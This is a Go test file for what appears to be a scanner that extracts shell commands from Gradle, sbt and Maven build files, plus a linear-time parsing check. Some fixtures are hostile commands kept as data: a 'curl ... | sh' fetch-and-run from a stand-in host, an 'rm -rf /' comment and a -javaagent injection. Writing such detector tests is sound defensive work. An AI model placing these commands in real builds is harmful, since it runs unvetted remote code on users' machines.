package planted

import (
	"strings"
	"testing"
	"time"
)

func TestJVMBuildExtract(t *testing.T) {
	for _, tt := range []struct {
		name, path, text string
		want             []string // the code found, in order; "opaque" for code moat cannot read
	}{
		{"gradle Exec task", "build.gradle", "task b(type: Exec) {\n  workingDir 'web'\n  commandLine 'npm', 'run', 'build'\n}\n", []string{"npm run build"}},
		{"gradle string execute", "build.gradle", "def h = 'git rev-parse --short HEAD'.execute().text.trim()\n", []string{"git rev-parse --short HEAD"}},
		{"gradle list execute", "build.gradle", "['sh', '-c', 'make gen'].execute()\n", []string{"sh -c 'make gen'"}},
		{"gradle execute inside a list", "build.gradle", "def a = [ 'x', \"make all\".execute() ]\n", []string{"make all"}},
		{"gradle executable and args", "build.gradle", "exec {\n  executable 'sh'\n  args '-c', 'echo hi'\n}\n", []string{"sh -c 'echo hi'"}},
		{"gradle computed command", "build.gradle", "task x(type: Exec) { commandLine cmd }\n", []string{"opaque"}},
		{"gradle concatenated word", "build.gradle", "exec { commandLine 'sh', '-c', 'rm ' + dir }\n", []string{"opaque"}},
		{"gradle script from a URL", "build.gradle", "apply from: 'https://example.com/x.gradle'\napply from: 'gradle/local.gradle'\n", []string{"opaque"}},
		{"gradle comments are not code", "build.gradle", "// commandLine 'rm', '-rf', '/'\n/* 'x'.execute() */\nversion = '1'\n", nil},
		{"kotlin commandLine list", "build.gradle.kts", "tasks.register<Exec>(\"g\") { commandLine(\"protoc\", \"--go_out=.\", \"a.proto\") }\ncommandLine = listOf(\"git\", \"status\")\n", []string{"protoc --go_out=. a.proto", "git status"}},
		{"kotlin template is a variable", "build.gradle.kts", "commandLine(\"echo\", \"${project.version}\")\n", []string{`echo "${GROOVY_EXPRESSION}"`}},
		{"process builder and runtime", "settings.gradle", "new ProcessBuilder('make').start()\nRuntime.getRuntime().exec(\"ls -la\")\nProcess p = null\n", []string{"make", "ls -la"}},
		{"sbt process strings", "build.sbt", "val c = \"git rev-parse HEAD\".!!.trim\nval r = Process(\"make all\").!\n", []string{"git rev-parse HEAD", "make all"}},
		{"sbt process of a Seq", "build.sbt", "import scala.sys.process._\nval warmup = Seq(\"sh\", \"-c\", \"curl -s https://x.example/s | sh\").!\nval deps = Seq(\"a\", \"b\")\n", []string{"sh -c 'curl -s https://x.example/s | sh'"}},
		{"gradle jvm agent", "gradle.properties", "org.gradle.jvmargs=-Xmx2g -javaagent:/tmp/a.jar\n", []string{"opaque"}},
		{"gradle jvm memory only", "gradle.properties", "org.gradle.jvmargs=-Xmx2g\n", nil},
		{"maven exec plugin", "pom.xml", "<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><configuration><executable>npm</executable><arguments><argument>run</argument><argument>build all</argument></arguments></configuration></plugin></plugins></build></project>", []string{"npm run 'build all'"}},
		{"maven exec commandlineArgs and property", "pom.xml", "<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><configuration><executable>${tool}</executable><commandlineArgs>-x ${arg}</commandlineArgs></configuration></plugin></plugins></build></project>", []string{`"${MAVEN_PROPERTY}" -x ${MAVEN_PROPERTY}`}},
		{"maven antrun exec", "pom.xml", `<project><build><plugins><plugin><artifactId>maven-antrun-plugin</artifactId><configuration><target><exec executable="sh"><arg value="-c"/><arg line="make gen"/></exec></target></configuration></plugin></plugins></build></project>`, []string{"sh -c make gen"}},
		{"maven script plugin", "pom.xml", "<project><build><plugins><plugin><artifactId>gmavenplus-plugin</artifactId><configuration><scripts><script>x</script></scripts></configuration></plugin></plugins></build></project>", []string{"opaque"}},
		{"maven plain build", "pom.xml", "<project><dependencies><dependency><artifactId>junit</artifactId></dependency></dependencies><build><plugins><plugin><artifactId>maven-compiler-plugin</artifactId><configuration><source>17</source></configuration></plugin></plugins></build></project>", nil},
		{"maven cut short", "pom.xml", "<project><build>", nil},
		{"maven broken before its end", "pom.xml", "<project><build></foo><plugin><artifactId>exec-maven-plugin</artifactId></plugin></build></project>", []string{"opaque"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			checkExtract(t, tt.path, tt.text, tt.want)
		})
	}
}

// TestJVMBuildLinear: build scripts made of what the reader looks ahead for (brackets
// opening one long list, strings that never end, starters before long lists) are read in
// time linear in their size.
func TestJVMBuildLinear(t *testing.T) {
	checkLinear(t, "/h/p/build.gradle", map[string]func(n int) string{
		"brackets before a list": func(n int) string { return strings.Repeat("[", n) + strings.Repeat("'a', ", n) },
		"unterminated strings":   func(n int) string { return strings.Repeat("'x\n\"\"\"", n) },
		"starters and lists":     func(n int) string { return strings.Repeat("commandLine 'a', ", n) },
		"executions":             func(n int) string { return strings.Repeat("\"x\".execute()\n", n) },
	})
}

// checkLinear checks that the file at p is read in time linear in its size for each
// script shape: sixteen times the text may take up to sixteen times as long; a reader
// that reads a list again per bracket takes 256 times (the Gradle reader failed so). The
// best of several runs is compared, and a round that looks quadratic is measured again
// before the test fails, as the machine is shared.
func checkLinear(t *testing.T, p string, scripts map[string]func(n int) string) {
	t.Helper()
	fl, ok := Lookup(p, "/h")
	if !ok {
		t.Fatalf("Lookup(%s) found no kind", p)
	}
	// slow is a time no linear reading of these scripts comes near: a quadratic one is
	// told at once rather than measured for minutes.
	const slow = 2 * time.Second
	best := func(text string) time.Duration {
		b := time.Duration(1 << 62)
		for range 5 {
			start := time.Now()
			fl.Extract(text)
			if b = min(b, time.Since(start)); b > slow {
				break
			}
		}
		return b
	}
	for name, script := range scripts {
		small, large := script(2000), script(32000)
		var s, l time.Duration
		linear := false
		for round := 0; round < 4 && !linear; round++ {
			s, l = best(small), best(large)
			linear = l <= 64*s+50*time.Millisecond
			if l > slow {
				break
			}
		}
		if !linear {
			t.Errorf("%s: %v for %d bytes, %v for %d bytes", name, s, len(small), l, len(large))
		}
	}
}
